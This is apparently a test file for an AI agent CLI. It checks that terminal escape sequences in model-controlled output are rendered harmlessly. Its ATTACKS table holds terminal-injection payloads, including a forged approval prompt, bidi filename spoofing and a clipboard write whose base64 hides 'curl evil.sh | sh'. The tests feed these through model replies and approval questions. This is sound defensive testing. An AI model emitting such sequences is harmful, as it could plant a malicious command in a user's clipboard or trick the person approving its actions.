import { mkdtemp, readFile, rm, writeFile } from "node:fs/promises";
import { tmpdir } from "node:os";
import path from "node:path";
import { PassThrough } from "node:stream";
import { afterAll, afterEach, beforeEach, describe, expect, test } from "vitest";
import { escapeControlCharacters } from "../../engine/cli/escape-control-characters.ts";
import { EXIT } from "../../engine/cli/exit-codes.ts";
import { main } from "../../engine/cli/main.ts";
import { closeSharedSandboxes } from "../../engine/runtime/shared-sandbox.ts";
import { runMoss } from "../helpers/moss-cli.ts";

// Text the model's code controls reaches the person's terminal only with its control characters made visible: no
// clear-screen, cursor move, window title, OSC 52 clipboard write or bidirectional reordering gets through.
const ATTACKS = {
  clearScreen: "\x1b[2J\x1b[H",
  cursorUp: "\x1b[1A\x1b[2K",
  windowTitle: "\x1b]0;pwned\x07",
  clipboard: "\x1b]52;c;Y3VybCBldmlsLnNoIHwgc2g=\x07",
  carriageReturn: "safe\rApprove? [y/n] y",
  eightBitCsi: "\x9b2J",
  bidi: "invoice\u202Efdp.exe",
  backspace: "yes\b\b\bno",
  stringTerminator: "\x1bP1$r\x1b\\",
};
/** Any byte a terminal acts on, as printed output must never contain it. */
const CONTROL = /[\u0000-\u0008\u000b-\u001f\u007f-\u009f\u202a-\u202e\u2066-\u2069]/;

describe("escapeControlCharacters", () => {
  test("shows every control sequence as visible text and keeps tabs, newlines and ordinary Unicode", () => {
    for (const attack of Object.values(ATTACKS)) expect(escapeControlCharacters(attack)).not.toMatch(CONTROL);
    expect(escapeControlCharacters(ATTACKS.clearScreen)).toBe("\\x1b[2J\\x1b[H");
    expect(escapeControlCharacters(ATTACKS.clipboard)).toBe("\\x1b]52;c;Y3VybCBldmlsLnNoIHwgc2g=\\x07");
    expect(escapeControlCharacters(ATTACKS.carriageReturn)).toBe("safe\\rApprove? [y/n] y");
    expect(escapeControlCharacters(ATTACKS.eightBitCsi)).toBe("\\x9b2J");
    expect(escapeControlCharacters(ATTACKS.bidi)).toBe("invoice\\u202efdp.exe");
    expect(escapeControlCharacters("a\tb\nc — café 🎉 日本")).toBe("a\tb\nc — café 🎉 日本");
  });
});

let directory: string;
beforeEach(async () => {
  directory = await mkdtemp(path.join(tmpdir(), "moss-escape-"));
});
afterEach(async () => {
  await rm(directory, { recursive: true, force: true });
});
afterAll(async () => {
  await closeSharedSandboxes();
});

const SHOP = path.resolve("test/cli/fixtures/shop/context.ts");
const payload = JSON.stringify(Object.values(ATTACKS).join("|"));

describe("moss run prints what the code controls escaped", () => {
  test("stdout, the returned value, an error message and its stack carry no control character", async () => {
    const code = path.join(directory, "attack.ts");
    await writeFile(
      code,
      `async function main(moss: Moss) {\n  console.log(${payload});\n  console.error(${payload});\n  throw new Error(${payload});\n}\n`,
    );
    const failed = await runMoss(["run", SHOP, "--code", code, "--sandbox", "in-process"], {
      env: { MOSS_SHOP_LOG: path.join(directory, "shop.log") },
    });
    expect(failed.code).toBe(EXIT.failed);
    expect(failed.stdout).toContain("\\x1b]52;c;");
    expect(failed.stderr).toContain("Error: \\x1b[2J\\x1b[H|");
    expect(failed.stdout + failed.stderr).not.toMatch(CONTROL);

    await writeFile(code, `async function main(moss: Moss) {\n  return { [${payload}]: ${payload} };\n}\n`);
    const returned = await runMoss(["run", SHOP, "--code", code, "--sandbox", "in-process"], {
      env: { MOSS_SHOP_LOG: path.join(directory, "shop.log") },
    });
    expect(returned.code).toBe(EXIT.ok);
    expect(returned.stdout).toContain("returned:");
    expect(returned.stdout + returned.stderr).not.toMatch(CONTROL);
  });
});

describe("moss agent prints what the model and its code control escaped", () => {
  test("the model's text, its code, the observation and the final answer carry no control character", async () => {
    const replay = path.join(directory, "replay.json");
    const code = `async function main(moss: Moss) {\n  // ${ATTACKS.windowTitle}\n  console.log(${payload});\n  return ${payload};\n}`;
    await writeFile(
      replay,
      JSON.stringify({
        responses: [
          { content: `Working${ATTACKS.clearScreen}`, toolCalls: [{ name: "moss", arguments: { code } }] },
          { content: `Done${ATTACKS.clipboard}${ATTACKS.carriageReturn}` },
        ],
      }),
    );
    const result = await runMoss(["agent", SHOP, "Say hello", "--replay", replay], {
      env: { MOSS_SHOP_LOG: path.join(directory, "shop.log") },
    });
    expect(result.code).toBe(EXIT.ok);
    expect(result.stdout).toContain("Working\\x1b[2J");
    expect(result.stdout).toContain("Done\\x1b]52;c;");
    expect(result.stdout + result.stderr).not.toMatch(CONTROL);
  });
});

/** An in-process CLI whose stdin is a terminal that types `input`. */
function terminal(input: string) {
  const stdin = Object.assign(new PassThrough(), { isTTY: true });
  stdin.end(input);
  const stdout = new PassThrough();
  const stderr = new PassThrough();
  let out = "";
  let err = "";
  stdout.on("data", (chunk) => {
    out += chunk;
  });
  stderr.on("data", (chunk) => {
    err += chunk;
  });
  return {
    io: { stdin, stdout, stderr, env: { NO_COLOR: "1" }, cwd: directory },
    out: () => out,
    err: () => err,
  };
}

describe("the person at the terminal", () => {
  beforeEach(() => {
    process.env.MOSS_SHOP_LOG = path.join(directory, "shop.log");
  });
  afterEach(() => {
    delete process.env.MOSS_SHOP_LOG;
  });

  test("sees the call to approve: member, arguments and the line of code that makes it", async () => {
    const code = path.join(directory, "order.ts");
    await writeFile(
      code,
      'async function main(moss: Moss) {\n  await moss.shop.placeOrder("tea");\n  const id = 40 + 2;\n  return await moss.shop.deleteProduct(id);\n}\n',
    );
    const cli = terminal("y\n");
    const exit = await main(["run", SHOP, "--code", code, "--sandbox", "in-process"], cli.io);
    expect(cli.err()).toContain("> 4 |   return await moss.shop.deleteProduct(id);\n");
    expect(cli.err()).toMatch(/Approve shop\.deleteProduct\(42\) at line 4 \(#r2-[0-9a-f]{12}\)\? \[y\/n\] /);
    expect(exit).toBe(EXIT.ok);
    expect((await readFile(path.join(directory, "shop.log"), "utf8")).split("\n").filter(Boolean)).toEqual([
      "order tea",
      "delete 42",
    ]);
  });

  test("long arguments are cut to a bound; a hostile argument or question cannot rewrite the prompt line", async () => {
    const code = path.join(directory, "hostile.ts");
    await writeFile(
      code,
      `async function main(moss: Moss) {\n  const colour = await moss.ask(${JSON.stringify(`Which colour?${ATTACKS.cursorUp}${ATTACKS.carriageReturn}`)}, { choices: ["red", ${JSON.stringify(`blue${ATTACKS.windowTitle}`)}] });\n  await moss.shop.placeOrder(${JSON.stringify("x".repeat(5_000))} + colour);\n  return colour;\n}\n`,
    );
    const policy = path.join(directory, "hostile.answers.json");
    await writeFile(policy, "{}");
    const cli = terminal("2\n");
    const exit = await main(["run", SHOP, "--code", code, "--sandbox", "in-process"], cli.io);
    expect(exit).toBe(EXIT.ok);
    expect(cli.err()).toContain(
      "Which colour?\\x1b[1A\\x1b[2Ksafe\\rApprove? [y/n] y\n  1) red\n  2) blue\\x1b]0;pwned\\x07\n",
    );
    expect(cli.err() + cli.out()).not.toMatch(CONTROL);
  });
});
